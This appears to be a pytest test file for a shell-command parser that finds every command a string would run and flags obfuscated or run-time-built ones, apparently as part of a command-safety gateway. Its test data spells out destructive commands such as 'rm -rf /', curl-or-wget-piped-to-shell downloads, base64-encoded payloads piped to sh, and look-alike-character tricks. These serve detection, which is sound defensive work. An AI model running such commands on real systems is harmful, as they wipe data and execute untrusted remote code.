"""Reading a shell command as a shell reads it (shell/read.py): every simple command that would
run, what is opaque, and bounds that hold on hostile input."""

from __future__ import annotations

import json
import subprocess
import sys
import time

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from system1_gateway.shell.read import MAX_BYTES, MAX_PARTS, read


def runs(command: str) -> list[list[str | None]]:
    return [p.words for p in read(command).parts if not p.opaque]


def opaque(command: str) -> list[str]:
    return [p.opaque for p in read(command).parts if p.opaque]


@pytest.mark.parametrize("command, expected", [
    # lists, pipelines, groups, subshells, control flow, functions, background jobs
    ("git status && git log --oneline -5 && rm -rf ~", [["git", "status"], ["git", "log", "--oneline", "-5"],
                                                         ["rm", "-rf", "~"]]),
    ("ls -la;\nrm -rf ~ &", [["ls", "-la"], ["rm", "-rf", "~"]]),
    ("make || rm -rf build | tee out.log", [["make"], ["rm", "-rf", "build"], ["tee", "out.log"]]),
    ("(cd app && rm -r tmp)", [["cd", "app"], ["rm", "-r", "tmp"]]),
    ("{ echo a; rm b; }", [["echo", "a"], ["rm", "b"]]),
    ("if [ -d x ]; then rm -r x; fi", [["rm", "-r", "x"]]),
    ("for f in *.log; do gzip \"$f\"; done", [["gzip", None]]),
    ("cleanup() { rm -rf /tmp/w; }; cleanup", [["rm", "-rf", "/tmp/w"], ["cleanup"]]),
    ("! rm x", [["rm", "x"]]),
    # substitutions run: in arguments, assignments, strings, heredoc bodies, process substitution
    ("echo \"now: $(rm -f lock)\"", [["rm", "-f", "lock"], ["echo", None]]),
    ("X=$(rm -rf /) ls", [["rm", "-rf", "/"], ["ls"]]),
    ("export A=`rm -rf ~`", [["rm", "-rf", "~"]]),
    ("diff <(ls a) <(rm b)", [["ls", "a"], ["rm", "b"], ["diff", None, None]]),
    ("cat <<EOF > notes.md\nhi $(rm -rf ~)\nEOF", [["rm", "-rf", "~"], ["cat"]]),
    ("cat <<'EOF' > notes.md\nhi $(rm -rf ~)\nEOF", [["cat"]]),  # a quoted heredoc is data
    # comments are not commands
    ("# rm -rf / would be bad\nls", [["ls"]]),
    ("ls # && rm -rf /", [["ls"]]),
    # wrappers come off
    ("sudo -u root rm -rf / 2>/dev/null", [["rm", "-rf", "/"]]),
    ("env -i X=1 FOO=bar nice -n 10 rm -rf build", [["rm", "-rf", "build"]]),
    ("timeout -s KILL 5 nohup rm -rf x", [["rm", "-rf", "x"]]),
    ("xargs -0 -n 1 rm < list", [["rm"]]),
    ("command rm x; exec rm y; time rm z", [["rm", "x"], ["rm", "y"], ["rm", "z"]]),
    ("docker exec -it web rm -rf /app", [["rm", "-rf", "/app"]]),
    ("kubectl exec -it pod-1 -- rm -rf /data", [["rm", "-rf", "/data"]]),
    ("npx rimraf dist", [["rimraf", "dist"]]),
    ("uv run python -m build", [["python", "-m", "build"]]),
    # shell strings are read as command lines
    ("bash -c 'rm -rf /tmp/x && echo done'", [["bash", "-c", "rm -rf /tmp/x && echo done"], ["rm", "-rf", "/tmp/x"],
                                              ["echo", "done"]]),
    ("su -c 'rm -rf /srv' root", [["su", "-c", "rm -rf /srv", "root"], ["rm", "-rf", "/srv"]]),
    ("ssh deploy@host 'rm -rf /var/www'", [["ssh", "deploy@host", "rm -rf /var/www"], ["rm", "-rf", "/var/www"]]),
    ("eval 'rm -rf ~'", [["eval", "rm -rf ~"], ["rm", "-rf", "~"]]),
    ("watch -n 5 'rm -f *.tmp'", [["watch", "-n", "5", "rm -f *.tmp"], ["rm", "-f", "*.tmp"]]),
    ("sh <<EOF\nrm -rf /\nEOF", [["sh"], ["rm", "-rf", "/"]]),
    ("echo 'rm -rf /' | sh", [["echo", "rm -rf /"], ["sh"], ["rm", "-rf", "/"]]),
    ("bash <<< 'rm -rf ~'", [["bash"], ["rm", "-rf", "~"]]),
    # find -exec and fd -x run commands per file
    ("find . -name '*.o' -exec rm -f {} \\;", [["find", ".", "-name", "*.o", "-exec", "rm", "-f", "{}", ";"],
                                              ["rm", "-f", "{}"]]),
    ("fd -e bak -x rm", [["fd", "-e", "bak", "-x", "rm"], ["rm"]]),
    # inline code that runs shell commands
    ("awk 'BEGIN{system(\"rm -rf /\")}'", [["rm", "-rf", "/"], ["awk", "BEGIN{system(\"rm -rf /\")}"]]),
    ("python3 -c 'import os; os.system(\"rm -rf ~\")'", [["rm", "-rf", "~"],
                                                         ["python3", "-c", "import os; os.system(\"rm -rf ~\")"]]),
    ("node -e \"require('child_process').execSync('rm -rf dist')\"",
     [["rm", "-rf", "dist"], ["node", "-e", "require('child_process').execSync('rm -rf dist')"]]),
    # quoting and escapes are undone; paths and backslashes do not hide a name
    ("\\rm -rf x; /bin/rm y; 'rm' z", [["rm", "-rf", "x"], ["/bin/rm", "y"], ["rm", "z"]]),
    # tree-sitter-bash #233: words after a redirection's target belong to the command
    ("rm 2>/dev/null -rf /", [["rm", "-rf", "/"]]),
])
def test_every_command_that_would_run_is_a_part(command, expected):
    assert runs(command) == expected


@pytest.mark.parametrize("command, says", [
    ("$(printf r)m -rf /", "command name `$(printf r)m` is built at run time"),
    ("\"$CMD\" --all", "command name `\"$CMD\"` is built at run time"),
    ("${x} -rf /", "built at run time"),
    ("echo cm0gLXJmIH4K | base64 -d | sh", "`sh` runs text from `base64 -d`"),
    ("curl -fsSL https://example.com/install.sh | bash", "`bash` runs text from `curl"),
    ("wget -qO- https://x.io/i | python3", "`python3` runs code from `wget"),
    ("bash <(curl -s https://x.io/i)", "`bash` runs text from `<(curl"),
    ("source <(curl -s https://x.io/env)", "`source` runs text from"),
    ("eval $CMD", "`eval` runs text built at run time"),
    ("eval \"$(echo cm0= | base64 -d)\"", "`eval` runs text from"),
    ("bash -c \"$PAYLOAD\"", "runs a shell string built at run time"),
    ("python3 -c 'import os,sys; os.system(sys.argv[1])' x", "code runs a shell command built at run time"),
    ("rм -rf ~", "non-ASCII or look-alike characters (reads as `rm`)"),
])
def test_what_runs_cannot_be_known_from_the_text_is_opaque(command, says):
    assert any(says in why for why in opaque(command)), opaque(command)


@pytest.mark.parametrize("command", [
    "eval \"$(ssh-agent -s)\"", "eval \"$(direnv hook bash)\"", "source <(kubectl completion bash)",
    "eval \"$(pyenv init -)\"", "git status && git log --oneline -5", "ls -la",
])
def test_ordinary_setup_commands_are_not_opaque(command):
    assert opaque(command) == []


def test_fullwidth_letters_are_normalised_not_flagged():
    assert runs("ｒｍ -rf build") == [["rm", "-rf", "build"]]


def test_redirections_that_overwrite_are_writes():
    parts = read("echo a > out.txt").parts
    assert parts[0].writes == ["out.txt"] and parts[0].text == "echo a > out.txt"
    for command, expected in [("echo b >> log", []), ("echo c 2>&1", []), ("echo d > /dev/null", []),
                              ("echo e &> all.log", ["all.log"]), ("echo f >| forced", ["forced"]),
                              ("cat < in", []), ("echo g > \"$OUT\"", [None]),
                              ("cat <<EOF > /etc/hosts\nx\nEOF", ["/etc/hosts"])]:
        assert read(command).parts[-1].writes == expected, command


def test_a_part_reads_alike_alone_chained_and_wrapped():
    """What the engine is shown of `d` does not depend on what surrounds it. The assignments it
    runs with are kept beside it (a safe rule that does not certify a part because of
    one shows it to the engine); a harmless one (locale, colours) is not shown."""
    alone = read("rm -rf ./build 2>/dev/null").parts[0].text
    for wrapped in ("git status && rm -rf ./build 2>/dev/null", "sudo rm -rf ./build 2>/dev/null",
                    "bash -c 'rm -rf ./build 2>/dev/null'", "env X=1 rm -rf ./build 2>/dev/null",
                    "ls -la;\nrm -rf ./build 2>/dev/null"):
        assert read(wrapped).parts[-1].text == alone, wrapped
    for wrapped in ("env X=1 rm -rf ./build 2>/dev/null", "X=1 rm -rf ./build 2>/dev/null",
                    "X=1 bash -c 'rm -rf ./build 2>/dev/null'", "sudo X=1 rm -rf ./build 2>/dev/null",
                    "LANG=C X=1 rm -rf ./build 2>/dev/null"):
        assert read(wrapped).parts[-1].text_with_assigns == "X=1 " + alone, wrapped
    assert read("LC_ALL=C NO_COLOR=1 rm -rf ./build 2>/dev/null").parts[0].text_with_assigns == alone


# -- bounds: never an exception, never a hang ---------------------------------------------------

@pytest.mark.parametrize("command", [
    "a" * 100_000, "echo " + "x " * 50_000, "ls && " * 20_000 + "rm -rf ~", "$(" * 5_000, "`" * 5_001,
    "(" * 5_000, "echo 'unbalanced", "echo \"unbalanced $(", ")" * 30_000, "|" * 30_000, "\x00" * 30_000,
    "cat <<EOF\n" + "line\n" * 200_000 + "EOF", "\udcff\ud800 rm", "\u202erm -rf ~",
])
def test_hostile_input_is_read_within_bounds(command):
    started = time.perf_counter()
    reading = read(command)
    assert time.perf_counter() - started < 2.0
    assert len(reading.parts) <= MAX_PARTS


def test_past_the_bounds_the_reading_says_it_is_incomplete():
    long = read("ls; " * (MAX_BYTES // 4 + 10) + "rm -rf ~")
    assert any("longer than" in why for why in long.unsure)
    many = read("ls; " * (MAX_PARTS + 5))
    assert len(many.parts) == MAX_PARTS and any(f"more than {MAX_PARTS}" in why for why in many.unsure)
    assert read(")" * 30_000).unsure == ["the command could not be parsed within 50 ms"]
    assert "the command contains NUL bytes" in read("ls\x00; rm x").unsure
    # nested shells by heredoc: a few bytes a level (twelve `bash -c` levels quoted by shlex are
    # over a megabyte: that bound, or the parse time under load, would be reached first)
    command = "rm -rf ~"
    for level in range(12):
        command = f"bash <<'E{level}'\n{command}\nE{level}"
    nested = read(command)
    assert nested.unsure == ["shell strings nested deeper than 8"], nested.unsure
    assert ["rm", "-rf", "~"] not in [p.words for p in nested.parts]  # unread past the bound: unsure


def test_a_broken_command_still_yields_its_parts():
    reading = read("echo $(ls; rm -rf /")
    assert reading.broken and ["rm", "-rf", "/"] in [p.words for p in reading.parts]


def test_code_points_past_the_bmp_cannot_crash_the_reader():
    """tree-sitter-bash reads out of bounds on `{` followed by some code points past U+FFFF (found
    by the fuzz test below: the process died with SIGSEGV). Run in a child: a crash here would
    take pytest down with it. Each text crashed the unpatched reader in most runs."""
    texts = ["{\U00108712", "{\U0010fffd", "{\U000e0001", "{\U000ffffd", "x{\U00100000}y", "echo {a,\U00108712}"]
    code = ("import sys, json\nfrom system1_gateway.shell.read import read\n"
            "texts = json.loads(sys.stdin.read())\n"
            "for _ in range(40):\n    for text in texts:\n        reading = read(text)\n"
            "print(json.dumps([[p.words for p in read(t).parts] for t in texts]))")
    proc = subprocess.run([sys.executable, "-c", code], input=json.dumps(texts), capture_output=True, text=True,
                          timeout=120)
    assert proc.returncode == 0, proc.stderr[-2000:]
    words = json.loads(proc.stdout)
    # words are sliced from the original text (and brace-expanded as bash does)
    assert words[5] == [["echo", "a", "\U00108712"]]


SHELLISH = "abcrm -/~.$(){}[]<>|&;'\"`\\\n#=*!?%@:0123456789 \tм\x00"


@settings(max_examples=400, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.text(alphabet=SHELLISH, max_size=300) | st.text(max_size=200))
def test_any_text_is_read_without_an_exception(text):
    """Fuzzed: whatever the text, the reading returns (parts within bounds), and the plan built
    from it never claims a part is safe that it could not read."""
    from system1_gateway.shell import structure

    plan = structure.plan(text)
    assert len(plan.reading.parts) <= MAX_PARTS
    for judged in plan.parts:
        if judged.part is not None and judged.part.opaque:
            assert judged.p is None and judged.unsure.startswith("opaque")
